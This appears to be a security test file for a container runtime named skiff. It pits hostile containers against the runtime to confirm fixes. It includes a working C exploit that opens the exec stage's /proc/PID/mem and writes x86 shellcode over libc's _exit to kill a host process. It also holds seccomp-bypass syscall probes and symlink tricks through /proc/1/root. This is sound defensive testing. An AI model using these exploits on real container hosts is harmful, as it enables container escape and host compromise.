// Attacks from the review of issue 9's fixes (a hostile container against skiff as it stands). Each
// test is an attack that must fail; one that still succeeds is marked `ignore` with what is wrong.

import assert from "node:assert/strict";
import { join } from "node:path";
import { compileStatic } from "./cprog.ts";
import { withBusybox } from "./helpers.ts";
import { withBackground } from "./background.ts";

// Runs as PID 1 of a container with CAP_SYS_PTRACE. Each process that appears in its PID namespace
// (the newest pid, from ns_last_pid) has its maps and mem opened at once: both keep the address space
// they were opened on. When that is the address space of skiff's exec stage (the command's child
// shares it between posix_spawn's clone and its execve), the fds stay on the stage's memory after
// the command runs: the stage is a host process whose other threads run as root with every
// capability in the host's namespaces, and whose main thread is in the host's PID namespace. A
// process whose maps show a file that is not the container's is noted in /out/window. On x86-64 the
// attacker then patches that memory's libc _exit (its offset in the host's libc is argv[1]): if it is
// the stage's, the stage, on its way out, kills the host process whose pid is in /out/pid (one the
// container cannot otherwise see). Once the process has exec'd, memory still readable through the fd
// is not its own (a fork's copy goes at execve): that goes to /out/hits. /out/seen counts the
// processes opened.
const MEM_GRAB = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static char buf[4 << 20], again[4 << 20];
// whether name is still mapped in process p (before its execve, a fork copy maps it too)
static int still_maps(int p, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/maps", p);
  int f = open(path, O_RDONLY);
  if (f < 0) return 0;
  size_t got = 0;
  ssize_t r;
  while ((r = read(f, again + got, sizeof again - 1 - got)) > 0) got += r;
  close(f);
  again[got] = 0;
  return strstr(again, name) != 0;
}
int main(int argc, char **argv) {
  unsigned long exit_offset = argc > 1 ? strtoul(argv[1], 0, 16) : 0;
  int done = 0;
  for (;;) {
    int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    int n = read(f, buf, 31);
    close(f);
    if (n <= 0) continue;
    buf[n] = 0;
    int last = atoi(buf);
    for (int p = last; p <= last + 1; p++) {
      if (p <= done || p == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/maps", p);
      int maps = open(path, O_RDONLY);
      if (maps < 0) continue;
      snprintf(path, sizeof path, "/proc/%d/mem", p);
      int mem = open(path, O_RDWR);
      if (mem < 0) { close(maps); continue; }
      done = p;
      FILE *s = fopen("/out/seen", "a");
      if (s) { fprintf(s, "%d\\n", p); fclose(s); }
      size_t got = 0;
      ssize_t r;
      while ((r = read(maps, buf + got, sizeof buf - 1 - got)) > 0) got += r;
      buf[got] = 0;
      close(maps);
      // the container's own processes run busybox or this program: anything else is not theirs
      char *first = strchr(buf, '/');
      if (!first || !strncmp(first, "/bin/busybox", 12) || !strncmp(first, "/memgrab", 8)) { close(mem); continue; }
      char name[256];
      sscanf(first, "%255s", name);
      char *line = first;
      while (line > buf && line[-1] != '\\n') line--;
      unsigned long first_addr = strtoul(line, 0, 16);
      FILE *o = fopen("/out/window", "a");
      fprintf(o, "pid %d: memory of %s\\n", p, name);
      fflush(o);
      char *libc = strstr(buf, "libc.so.6");
      if (exit_offset && libc) {
        while (libc > buf && libc[-1] != '\\n') libc--;
        unsigned long base = strtoul(libc, 0, 16);
        int victim = 0;
        FILE *v = fopen("/out/pid", "r");
        if (v) { fscanf(v, "%d", &victim); fclose(v); }
        // push rdi; mov edi, victim; mov esi, 9; mov eax, 62 (kill); syscall;
        // pop rdi; mov eax, 231 (exit_group); syscall; hlt
        unsigned char code[] = { 0x57, 0xbf, 0, 0, 0, 0, 0xbe, 9, 0, 0, 0, 0xb8, 62, 0, 0, 0, 0x0f, 0x05,
                                 0x5f, 0xb8, 231, 0, 0, 0, 0x0f, 0x05, 0xf4 };
        memcpy(code + 2, &victim, 4);
        ssize_t w = victim ? pwrite(mem, code, sizeof code, base + exit_offset) : -1;
        fprintf(o, "pid %d: patched _exit at %lx to kill host pid %d: %zd\\n", p, base + exit_offset, victim, w);
      }
      fclose(o);
      // a fork's copy goes at its execve; memory that is still there afterwards is another
      // process's: the stage's
      for (int i = 0; i < 1000 && still_maps(p, name); i++) usleep(2000);
      char byte;
      if (pread(mem, &byte, 1, first_addr) == 1) {
        o = fopen("/out/hits", "a");
        fprintf(o, "pid %d: kept the memory of %s after its execve\\n", p, name);
        fclose(o);
      }
      close(mem);
    }
  }
}
`;

/** The offset of `_exit` in the host's libc (what the stage's FFI calls on its way out), or "". */
async function libcExitOffset(): Promise<string> {
  if (Deno.build.arch !== "x86_64") return "";
  const out = await new Deno.Command("nm", {
    args: ["-D", "--defined-only", "/lib/x86_64-linux-gnu/libc.so.6"],
    stdout: "piped",
    stderr: "null",
  }).output().catch(() => null);
  const line = new TextDecoder().decode(out?.stdout ?? new Uint8Array()).split("\n")
    .find((l) => / _exit(@|$)/.test(l));
  return line?.split(" ")[0] ?? "";
}

// Found in this review (main at 6b8d9bc, this machine, 2 vCPU, 13:20-13:26 UTC): the container
// held the exec stage's memory in 8 of 20, 13 of 30, 7 of 30 and 7 of 30 execs ("memory of
// /work/main/.deno/node_modules/@deno/linux-x64-glibc/deno"), and in 3 of 3 runs of this test the
// patched stage killed the host process. The stage's other threads run as root with every capability,
// no seccomp, the host's root and skiff's host fds: code written into their memory runs on the host;
// even the main thread is in the host's PID namespace with the container's CAP_SYS_PTRACE and
// CAP_KILL (what the patch above uses). Non-dumpable does not stop a tracer with CAP_SYS_PTRACE in the
// host's user namespace. docker 20.10 with the same program: the container opens runc init's memory
// too, but every thread of that process is already in the container's namespaces and no host process
// shares its address space. The fix is in the stage's spawn: no process that shares the stage's
// address space may exist in the container's PID namespace (posix_spawn clones with CLONE_VM): a
// fork without CLONE_VM (the copy holds nothing the container may not have) or a helper process that
// is entirely inside the container before anything appears there. Fixed (branch execfast): the stage
// forks; the container still opens the fork's copy before its execve (/out/window, 22 patches in one
// run) but keeps nothing and the host process lives. With the hits counted as above, the stage before
// the fix (bba6ee7) left its memory in the container's hands in 16, 16 and 13 of 30 execs, and the
// host process was killed in 3 of 3 runs; after it, 0 of 30 and alive (three runs).
Deno.test({
  name: "exec with --cap-add SYS_PTRACE: the container never gets the exec stage's memory",
  async fn() {
    const grab = await compileStatic("memgrab", MEM_GRAB);
    const exitOffset = await libcExitOffset();
    await withBusybox(async (root) => {
      const out = await Deno.makeTempDir({ prefix: "skiff-out-" });
      // a host process the container cannot see: the patched stage kills it on its way out
      const victim = new Deno.Command("sleep", { args: ["1000"] }).spawn();
      let victimDied = false;
      victim.status.then(() => victimDied = true);
      try {
        await Deno.writeTextFile(join(out, "pid"), `${victim.pid}\n`);
        const command = ["/memgrab", ...(exitOffset ? [exitOffset] : [])];
        await withBackground(
          root,
          "memgrab",
          async (c) => {
            const rounds = 30;
            // long enough for the attacker to patch the stage before the command exits
            for (let i = 0; i < rounds; i++) await root.skiff(["exec", c.name, "sleep", "0.3"]);
            const seen = (await Deno.readTextFile(join(out, "seen")).catch(() => "")).trim().split("\n")
              .filter(Boolean).length;
            // the attacker must have opened the exec'd processes for the test to mean anything
            assert.ok(seen >= rounds * 0.5, `the attacker opened ${seen} of ${rounds} exec'd processes`);
            const hits = (await Deno.readTextFile(join(out, "hits")).catch(() => "")).trim();
            await new Promise((r) => setTimeout(r, 200));
            assert.equal(
              hits + (victimDied ? "\nthe host process was killed" : ""),
              "",
              `the container held the exec stage's memory:\n${hits}`,
            );
          },
          command,
          ["--cap-add", "SYS_PTRACE", "-v", `${grab}:/memgrab:ro`, "-v", `${out}:/out`],
        );
      } finally {
        try {
          victim.kill("SIGKILL");
        } catch { /* killed by the attack */ }
        await victim.status;
        await Deno.remove(out, { recursive: true });
      }
    });
  },
});

// A 64-bit static program makes 32-bit calls: i386's through int 0x80 (its own syscall numbers) and
// x32's (the 64-bit numbers with bit 30 set). A filter that checked only the numbers, not the
// architecture, would let unshare(CLONE_NEWUSER) and keyctl through under the numbers of harmless
// calls. Each call runs in a child; "killed" is SIGSYS (skiff: the filter kills a 32-bit call),
// otherwise the errno or "ok".
const COMPAT_CALLS = `
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
static long i386(long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
  return ret;
}
static long x32(long nr, long a, long b, long c) {
  long ret;
  register long r10 __asm__("r10") = 0;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(nr | 0x40000000L), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
}
static void one(const char *name, int is_x32, long nr, long a, long b, long c) {
  fflush(stdout);
  pid_t p = fork();
  if (p == 0) {
    long r = is_x32 ? x32(nr, a, b, c) : i386(nr, a, b, c);
    printf("%s=%s\\n", name, r < 0 && r > -4096 ? strerrorname_np((int)-r) : "ok");
    fflush(stdout);
    _exit(0);
  }
  int st;
  waitpid(p, &st, 0);
  if (WIFSIGNALED(st)) printf("%s=killed\\n", name);
}
int main(void) {
  one("i386_unshare_user", 0, 310, 0x10000000, 0, 0);
  one("i386_keyctl", 0, 288, 0, -3, 0);
  one("i386_mount", 0, 21, (long)"t", (long)"/mnt", (long)"tmpfs");
  one("i386_personality", 0, 136, 0x0008 | 0x0400000, 0, 0);
  one("x32_unshare_user", 1, 272, 0x10000000, 0, 0);
  one("x32_keyctl", 1, 250, 0, -3, 0);
  one("x32_mount", 1, 165, (long)"t", (long)"/mnt", (long)"tmpfs");
  return 0;
}
`;

// None of these succeeded before this review either (skiff kills 32-bit calls: the filter's
// architecture check and x32 refusal); kept to protect them. docker 20.10 on this machine gives EPERM
// for all seven (its profile has i386 and x32 tables: a harmless i386 getpid is allowed there, where
// skiff kills it; a compatibility difference, not a hole).
Deno.test("seccomp: 32-bit calls (int 0x80, x32) from a 64-bit program never get past the filter, in run and exec", async () => {
  if (Deno.build.arch !== "x86_64") return; // int 0x80 and x32 are x86-64's
  const prog = await compileStatic("compat_calls", COMPAT_CALLS);
  const check = (label: string, out: string) => {
    const results: Record<string, string> = Object.fromEntries(
      out.trim().split("\n").map((l) => l.split("=")),
    );
    assert.equal(Object.keys(results).length, 7, `${label}: ${out}`);
    for (const [call, result] of Object.entries(results)) {
      assert.ok(["killed", "EPERM", "ENOSYS"].includes(result), `${label}: ${call} gave ${result}`);
    }
  };
  await withBusybox(async (root) => {
    check("run", await root.ok(["run", "--rm", "-v", `${prog}:/compat:ro`, "busybox", "/compat"]));
    await withBackground(
      root,
      "compat",
      async (c) => {
        check("exec", await root.ok(["exec", c.name, "/compat"]));
        check("exec -u 1000", await root.ok(["exec", "-u", "1000", c.name, "/compat"]));
      },
      ["sleep", "100"],
      ["-v", `${prog}:/compat:ro`],
    );
  });
});

// The container points its /etc/passwd, /etc/group and working directory at host paths: a file
// the test made on the host (a user "hostuser" with uid 4242 and a group "hostgrp" with gid 4343),
// directly, through /proc/1/root/.. and through /proc/self/root (self: the exec stage, which the
// container's /proc does not show). exec resolves all of them inside the container's root, where
// they do not exist. Held before this review; kept to protect exec's stage.
Deno.test("exec -u and -w: the container's passwd, group and cwd never resolve to host files", async () => {
  const hostDir = await Deno.makeTempDir({ prefix: "skiff-hostids-" });
  try {
    await Deno.writeTextFile(join(hostDir, "passwd"), "hostuser:x:4242:4242::/:/bin/sh\n");
    await Deno.writeTextFile(join(hostDir, "group"), "hostgrp:x:4343:\n");
    await withBusybox(async (root) => {
      await withBackground(root, "hostids", async (c) => {
        for (const via of ["", "/proc/1/root/../../..", "/proc/self/root"]) {
          await root.ok([
            "exec",
            c.name,
            "sh",
            "-c",
            `ln -sfn ${via}${hostDir}/passwd /etc/passwd && ln -sfn ${via}${hostDir}/group /etc/group`,
          ]);
          const user = await root.skiff(["exec", "-u", "hostuser", c.name, "id"]);
          assert.equal(user.code, 126, `${via}: ${user.stdout}${user.stderr}`);
          assert.match(user.stderr, /unable to find user hostuser: no matching entries in passwd file/);
          const group = await root.skiff(["exec", "-u", "0:hostgrp", c.name, "id"]);
          assert.equal(group.code, 126, `${via}: ${group.stdout}${group.stderr}`);
          assert.match(group.stderr, /unable to find group hostgrp: no matching entries in group file/);
          const cwd = await root.skiff(["exec", "-w", `${via}${hostDir}`, c.name, "ls"]);
          assert.ok(!cwd.stdout.includes("passwd"), `${via}: the host directory was listed: ${cwd.stdout}`);
        }
      });
    });
  } finally {
    await Deno.remove(hostDir, { recursive: true });
  }
});

// --cap-add ALL --cap-drop SYS_ADMIN: moby's TweakCapabilities adds "all capabilities except ones on
// capDrop". Before this review skiff ignored the drops next to ALL (lib/runtime/caps.ts): the
// container, its seccomp filter and every exec got CAP_SYS_ADMIN (CapEff 000001fffeffffff) and
// could mount (every run, 3 of 3). docker 20.10 on this machine refuses ALL outright (the host
// lacks some capability); on a full host it gives everything but SYS_ADMIN.
Deno.test("capabilities: a drop next to --cap-add ALL is honoured in run, the seccomp filter and exec", async () => {
  const SYS_ADMIN = 1n << 21n;
  const bounding = (status: string) => BigInt("0x" + status.match(/^CapBnd:\s*([0-9a-f]+)/m)![1]);
  await withBusybox(async (root) => {
    const flags = ["--cap-add", "ALL", "--cap-drop", "SYS_ADMIN", "--cap-drop", "cap_sys_module"];
    const status = await root.ok(["run", "--rm", ...flags, "busybox", "cat", "/proc/self/status"]);
    assert.equal(bounding(status) & SYS_ADMIN, 0n, status);
    assert.equal(bounding(status) & (1n << 16n), 0n, `SYS_MODULE: ${status}`);
    assert.notEqual(bounding(status) & (1n << 12n), 0n, `NET_ADMIN (from ALL) missing: ${status}`);
    // the seccomp filter's SYS_ADMIN rules stay off too: docker's message and exit code
    const mount = await root.skiff(["run", "--rm", ...flags, "busybox", "mount", "-t", "tmpfs", "t", "/tmp"]);
    assert.equal(mount.code, 1, mount.stderr);
    assert.match(mount.stderr, /permission denied/i);
    await withBackground(
      root,
      "alldrop",
      async (c) => {
        const execStatus = await root.ok(["exec", c.name, "cat", "/proc/self/status"]);
        assert.equal(bounding(execStatus) & SYS_ADMIN, 0n, execStatus);
        const inspect = await root.ok(["inspect", "-f", "{{json .HostConfig.CapDrop}}", c.name]);
        assert.equal(inspect.trim(), '["CAP_SYS_ADMIN","CAP_SYS_MODULE"]');
      },
      ["sleep", "100"],
      flags,
    );
  });
});
